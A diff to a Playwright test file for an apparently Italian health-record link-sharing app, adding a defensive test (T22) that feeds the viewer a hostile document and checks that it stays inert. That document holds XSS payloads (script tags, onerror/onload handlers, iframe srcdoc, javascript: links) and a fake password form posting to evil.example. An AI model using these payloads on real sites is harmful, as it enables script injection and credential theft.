@@ -1,5 +1,8 @@
 import { type BrowserContext, expect, type Page, test } from '@playwright/test';
-import { newRow } from '../support/rows';
+import { encryptFile, newKey } from '@/lib/record/health-links/encryption';
+import { writeLink } from '@/lib/record/health-links/payload';
+import { hashOf } from '@/lib/record/health-links/secrets';
+import { newHealthLink, newRow } from '../support/rows';
 import { expectAccessible } from './support/axe';
 import { type Behind, behindTheApp, newcomer } from './support/newcomer';
 import { openSessionOf } from './support/people';
@@ -39,6 +42,8 @@ async function copiedLink(page: Page, context: BrowserContext) {
   return page.evaluate(() => navigator.clipboard.readText());
 }
 
+const warning = (page: Page, hasText: string) => page.getByRole('alert').filter({ hasText });
+
 async function give(page: Page, recipient: string, passcode?: string) {
   await page.getByLabel('Chi è Lei').fill(recipient);
   if (passcode) await page.getByLabel('Codice').fill(passcode);
@@ -65,8 +70,15 @@ test('a link is made, opened elsewhere by who has the passcode, its openings are
   const requests: string[] = [];
   reader.on('request', (one) => requests.push(`${one.url()} ${JSON.stringify(one.headers())} ${one.postData() ?? ''}`));
   await reader.goto(link);
+  // The key is in the address no longer than it takes to read it, and comes back with nothing that the page does.
+  await expect(reader).toHaveURL(/\/condiviso$/);
+  await reader.getByRole('combobox', { name: 'Lingua' }).selectOption('en');
+  await expect(reader.getByLabel('Who you are')).toBeVisible();
+  await reader.getByRole('combobox', { name: 'Language' }).selectOption('it');
+  await expect(reader.getByLabel('Chi è Lei')).toBeVisible();
+  await expect(reader).toHaveURL(/\/condiviso$/);
   await give(reader, 'Dott.ssa Neri', '000001');
-  await expect(reader.getByRole('alert')).toContainText('Restano 9 tentativi');
+  await expect(warning(reader, 'Restano 9 tentativi')).toBeVisible();
   await expectAccessible(reader);
   await give(reader, 'Dott.ssa Neri', passcode);
   await expect(reader.getByText('Penicillina <b>orale</b>')).toBeVisible();
@@ -82,7 +94,6 @@ test('a link is made, opened elsewhere by who has the passcode, its openings are
   expect(requests.filter((one) => /"referer":"[^"]*condiviso/.test(one))).toEqual([]);
   await reader.getByRole('button', { name: 'Chiudi e cancella' }).click();
   await expect(reader.getByText('Penicillina')).toHaveCount(0);
-  expect(reader.url()).not.toContain('#');
 
   await reader.getByLabel('Le 8 parole').fill(words.toUpperCase());
   await reader.getByRole('button', { name: 'Cerca il link' }).click();
@@ -103,7 +114,7 @@ test('a link is made, opened elsewhere by who has the passcode, its openings are
   await reader.goto('about:blank');
   await reader.goto(link);
   await give(reader, 'Dott.ssa Neri', passcode);
-  await expect(reader.getByRole('alert')).toContainText('Non c’è nulla a questo indirizzo');
+  await expect(warning(reader, 'Non c’è nulla a questo indirizzo')).toBeVisible();
   await stranger.close();
 });
 
@@ -124,7 +135,7 @@ test('single items, strictly confidential ones after a proof, and a living link 
   await behind.sql`update tbl_sessioni set proved_at = now() - interval '1 hour' where id_utente = ${userId}`;
   await page.getByRole('button', { name: 'Crea il link' }).click();
   const proof = page.getByRole('dialog');
-  await proof.getByLabel('Password', { exact: true }).fill('Demo-Salute-2026!');
+  await proof.getByLabel('La Sua password', { exact: true }).fill('Demo-Salute-2026!');
   await proof.getByRole('button', { name: 'Conferma', exact: true }).click();
   await expect(page.getByRole('img', { name: 'Codice QR del link' })).toBeVisible();
   const link = await copiedLink(page, context);
@@ -142,4 +153,52 @@ test('single items, strictly confidential ones after a proof, and a living link 
   await expect(page.getByText(/Sempre aggiornato: la chiave è sul server/)).toBeVisible();
   await page.getByRole('button', { name: 'Mostra di nuovo il link Cartella di salute' }).click();
   await expect(page.getByRole('dialog').getByRole('img', { name: 'Codice QR del link' })).toBeVisible();
+});
+
+/** A document as nobody's program would write it, for who reads it on our own page. */
+const hostileDocument = () => {
+  const attack = 'window.attacked = true';
+  const evil = `<script>${attack}</script><img src="x" onerror="${attack}"><svg onload="${attack}"></svg>
+    <iframe srcdoc="<script>parent.${attack}</script>"></iframe><style>body{display:none}</style>
+    <form action="https://evil.example"><input name="password"><button>Acceda</button></form>
+    <a href="javascript:${attack}" style="position:fixed;inset:0">Clicchi qui</a>
+    <p onclick="${attack}" style="position:fixed">Allergia al lattice</p>${'<div>'.repeat(300)}In fondo`;
+  const nested = (depth: number): object[] => (depth === 0 ? [] : [{ title: 'Dentro', section: nested(depth - 1) }]);
+  const patient = {
+    resourceType: 'Patient',
+    gender: 'constructor',
+    birthDate: '<b>',
+    name: [{ text: '<i>Mario</i>' }],
+  };
+  const section = [
+    { title: `<img src=x onerror="${attack}">`, text: { div: `<div>${evil}</div>` } },
+    { title: 'Dentro', section: nested(2000) },
+    { title: 'Lunga', text: { div: `<div>${'<b>a</b>'.repeat(100_000)}</div>` } },
+  ];
+  return { entry: [{ resource: { resourceType: 'Composition', section } }, { resource: patient }] };
+};
+
+test('T22: what somebody has put into a link runs nothing, loads nothing and does not stop the page', async ({
+  page,
+  baseURL,
+}) => {
+  const [address, key] = [newKey(), newKey()];
+  const jwe = await encryptFile(hostileDocument(), key);
+  await newHealthLink(behind.db, await newcomer(behind), { addressHash: hashOf(address), jwe });
+  const requests: string[] = [];
+  page.on('request', (one) => requests.push(new URL(one.url()).origin));
+  const faults: string[] = [];
+  page.on('pageerror', (error) => faults.push(error.message));
+  await page.goto(writeLink({ url: `${baseURL}api/shl/${address}`, key }, `${baseURL}condiviso`));
+  await give(page, 'Dott.ssa Neri');
+  await expect(page.getByRole('heading', { name: '<i>Mario</i>' })).toBeVisible();
+  await expect(page.getByText('Allergia al lattice')).toBeVisible();
+  await expect(warning(page, 'troppo grande')).toBeVisible();
+  await page.getByText('Clicchi qui').click();
+  await page.getByText('Allergia al lattice').click();
+  const active = 'a, img, svg, iframe, form, input, button, style, script, [style], [onclick], [href], [src]';
+  await expect(page.locator('article section').locator(active)).toHaveCount(0);
+  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
+  expect([...new Set(requests)]).toEqual([new URL(baseURL ?? '').origin]);
+  expect(faults).toEqual([]);
 });
